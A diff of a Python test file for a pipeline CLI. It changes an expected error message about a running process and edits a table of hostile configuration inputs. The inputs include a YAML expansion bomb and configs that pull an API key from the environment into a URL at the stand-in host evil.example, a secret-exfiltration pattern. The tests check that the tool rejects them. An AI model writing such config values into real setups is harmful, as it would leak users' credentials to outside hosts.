@@ -303,7 +303,10 @@ def test_the_second_of_two_runs_says_who_runs_since_when(world: Worlds, call: Ca
         assert said.code == 1
         begin = f"error: a run is under way on this pipeline: process {holder.pid} on "
         assert said.err.startswith(begin)
-        assert ", since 20" in said.err and "\n  fix: wait for it, or end it\n" in said.err
+        assert (
+            ", since 20" in said.err
+            and f"\n  fix: wait for it, or end it: kill {holder.pid}\n" in said.err
+        )
         assert w.verdicts() == []
         assert f"under way: process {holder.pid}" in call("status", "-C", folder).out
     finally:
@@ -437,10 +440,10 @@ BOMB = "a: &a [x, x]\n" + "".join(
     for old, new in zip("abcdefghijklm", "bcdefghijklmn", strict=True)
 )
 HOSTILE = {
-    "a secret": ("llm: {name: vllm, model: '${oc.env:MY_KEY}'}", "is not read: write the value"),
+    "a secret": ("llm: {name: vllm, model: '${oc.env:MY_KEY}'}", "is not read"),
     "a secret in the address": (
         "llm: {name: vllm, model: m, api_base: 'http://evil.example/${oc.env:MY_KEY}'}",
-        "is not read: write the value",
+        "is not read",
     ),
     "another server": (
         "llm: {name: openai, model: m, api_base: 'http://evil.example/v1'}",
